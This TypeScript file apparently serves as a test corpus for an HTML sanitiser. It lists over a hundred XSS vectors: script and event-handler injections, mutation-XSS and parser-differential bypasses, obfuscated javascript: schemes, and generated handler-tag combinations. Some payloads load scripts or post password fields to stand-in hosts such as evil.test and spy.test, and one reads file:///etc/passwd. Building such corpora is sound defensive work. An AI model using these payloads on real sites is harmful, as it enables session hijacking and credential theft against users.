// What strangers write where words should stand: tags and attributes that act, addresses that are programs, and markup
// that one parser reads otherwise than the next. Each line is one vector; each tries to call `alert`.

/** By hand: the known ways past sanitisers, mutation XSS, and the holes that peers had. */
const KNOWN = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<script>/*</script><svg/onload=alert(1)>*/
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" autofocus onfocus="alert(1)" x="
' autofocus onfocus='alert(1)' x='
"><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" alt="รูป">
<img/src=x/onerror=alert(1)>
<img src=x onerror="&#97;lert(1)">
<img src=x onerror=&#x61;lert(1)>
<img src="x"onerror="alert(1)">
<img alt='"><script>alert(1)</script>' src="https://a.test/a.png">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img srcset="x 1x" src=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<image src=x onerror=alert(1)>
<a href="https://a.test/" onclick="alert(1)" style="position:fixed;inset:0" target="_blank" ping="https://spy.test/">x</a>
<a href='https://a.test/"onmouseover="alert(1)'>x</a>
<a href="https://a.test/" class="mention button evil" id="reply">x</a>
<a name="main" id="main">x</a>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"></svg>
<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>"></desc></svg>
<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><maction actiontype="statusline#http://a.test" xlink:href="javascript:alert(1)">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><p><noscript><style></noscript><img src=x onerror=alert(1)>
<style>@import 'https://evil.test/x.css';</style>
<style>*{background:url(https://spy.test/)}</style>
<style><img src="</style><img src=x onerror=alert(1)>">
<p style="background:url(javascript:alert(1))">x</p>
<p style="position:fixed;inset:0;z-index:9">x</p>
<p style="animation:x" onanimationstart=alert(1)>x</p>
<link rel=stylesheet href=https://evil.test/x.css>
<link rel=preload as=script href=https://evil.test/x.js onload=alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.test/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta name="referrer" content="unsafe-url">
<base href="https://evil.test/">
<base target="_blank">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
<iframe src="https://evil.test/"></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>parent.alert(1)</script>"></object>
<object type="text/html" data="https://evil.test/"></object>
<embed src="https://evil.test/x.swf">
<embed src="javascript:alert(1)">
<applet code="javascript:alert(1)"></applet>
<form action="https://evil.test/"><input name=password><button>เข้าสู่ระบบ</button></form>
<form action="https://evil.test/"><input type=submit formaction="javascript:alert(1)"></form>
<form id=x></form><button form=x formaction="https://evil.test/">x</button>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<input type=hidden name=form value=x>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<textarea><img src=x onerror=alert(1)></textarea>
<textarea></textarea/><img src=x onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<video><source onerror=alert(1)></video>
<video src="https://a.test/a.mp4" poster="javascript:alert(1)" onloadstart="alert(1)"></video>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<audio autoplay controls src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<details open name=x ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html manifest="https://evil.test/x">
<html onfocusin=alert(1)>
<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>
<table><tr><td><svg onload=alert(1)></td></tr></table>
<div class="scroll" onscroll=alert(1) style="height:1px" tabindex="9">x</div>
<div onpointerrawupdate=alert(1) style="position:fixed;inset:0">x</div>
<div contenteditable autofocus onfocus=alert(1)>x</div>
<div tabindex=1 autofocus onfocusin=alert(1)>x</div>
<button popovertarget="menu" onclick=alert(1)>x</button>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>
<isindex type=image src=1 onerror=alert(1)>
<p/onclick=alert(1)>x
<p onclick=alert(1) //x>y
<p "onclick=alert(1)">x</p>
<p <onclick=alert(1)>x</p>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<![><img src=x onerror=alert(1)>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<?xml version="1.0"?><?php alert(1) ?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<?xml-stylesheet href="javascript:alert(1)"?>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
\u003cimg src=x onerror=alert(1)\u003e
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
<b><i></b><script>alert(1)</i></script>
<p><table><p><script>alert(1)</script>
<a href="https://a.test/"><a href="javascript:alert(1)">x
</p></p></br></div></main></body></html><script>alert(1)</script>
<ol start="1 onclick=alert(1)" reversed><li value="javascript:alert(1)">x</ol>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="javascript:alert(1)">x</q>
<span class="h-card" data-x="1" contenteditable>x</span>
<custom-element is="x-y" onclick=alert(1)>x</custom-element>
<img name=body><img name=cookie><form name=getElementById></form>
<a id=location href=javascript:alert(1)>x</a>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<slot onslotchange=alert(1)></slot>
<map name=x><area href="javascript:alert(1)" shape=default></map><img usemap=#x src=x>
<portal src="https://evil.test/" onload=alert(1)>
<fencedframe src="https://evil.test/"></fencedframe>
<video><track default oncuechange=alert(1) src="data:text/vtt,WEBVTT"></video>
<picture><source srcset=x><img src=x onerror=alert(1)></picture>
<style onload=alert(1)></style>
<iframe loading=lazy src="javascript:alert(1)"></iframe>
{{constructor.constructor('alert(1)')()}}
<%= alert(1) %>
`
  .trim()
  .split('\n');

const EVENTS =
  'onload onerror onclick onmouseover onpointerenter onfocus onanimationend ontransitionrun onwheel ontoggle'.split(
    ' ',
  );
const CARRIERS = ['img src=x', 'svg', 'details open', 'input autofocus', 'video src=x', 'xss tabindex=1 autofocus'];

/** A handler on every kind of tag that fires by itself or at a touch. */
const HANDLERS = CARRIERS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=alert(1)>x`));

/** The ways to write `javascript:` so that a filter does not see it and a browser does, and schemes that are no better. */
export const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java&#9;script:alert(1)',
  'java&#x0A;script:alert(1)',
  'java\tscript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#1;javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://a.test/%0Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://a.test/x',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'intent://x#Intent;scheme=javascript;end',
];

/** Every scheme behind a link. */
const LINKS = SCHEMES.map((scheme) => `<a href='${scheme}'>x</a>`);

export const VECTORS: string[] = [...KNOWN, ...HANDLERS, ...LINKS];
